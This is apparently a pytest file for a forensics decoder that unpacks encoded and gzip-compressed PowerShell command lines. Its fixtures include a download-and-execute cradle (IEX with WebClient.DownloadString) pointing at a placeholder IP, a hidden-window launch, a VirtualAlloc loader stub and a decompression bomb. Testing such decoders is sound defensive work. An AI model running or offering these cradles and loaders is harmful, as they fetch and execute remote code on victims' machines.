"""What is inside encoded PowerShell, opened as data."""

from __future__ import annotations

import base64
import gzip

import pytest

from forensics.formats.encodedshell import layers

INNER = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "option", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "-encodedco", "\u2013enc", "-enc:"]
)
def test_every_spelling_of_the_option(option: str) -> None:
    assert layers(f"powershell.exe -nop -w hidden {option} {wide(INNER)}") == (INNER,)
    assert layers(f'"C:\\x\\PowerShell.exe" {option} "{wide(INNER)}"') == (INNER,)


def test_a_compressed_script_inside_an_encoded_command() -> None:
    packed = base64.b64encode(gzip.compress(b"$DoIt = @'\nVirtualAlloc\n'@")).decode()
    outer = f'$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("{packed}"));IEX (GzipStream $s)'
    assert layers(f"pwsh -enc {wide(outer)}") == (outer, "$DoIt = @'\nVirtualAlloc\n'@")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "powershell -ExecutionPolicy AAAAAAAAAAAAAAAAAAAAAAAA",
        "powershell -erroraction SilentlyContinueAndThenSomeMore",
        f"notepad -enc {wide(INNER)}",
        "powershell -enc " + base64.b64encode(bytes(range(200))).decode(),
        "powershell -enc !!!!",
    ],
)
def test_what_opens_as_no_text(text: str) -> None:
    assert layers(text) == ()


def test_hostile_input_ends() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * 50_000_000)).decode()
    (inner,) = layers(f'FromBase64String("{bomb}")')
    assert len(inner) == 1024 * 1024
    nested = INNER
    for _ in range(12):
        nested = f"powershell -enc {wide(nested)}"
        if len(nested) > 900_000:
            break
    assert 1 <= len(layers(nested)) <= 6
    layers("powershell " + "-e " * 200_000 + "A" * 200_000)
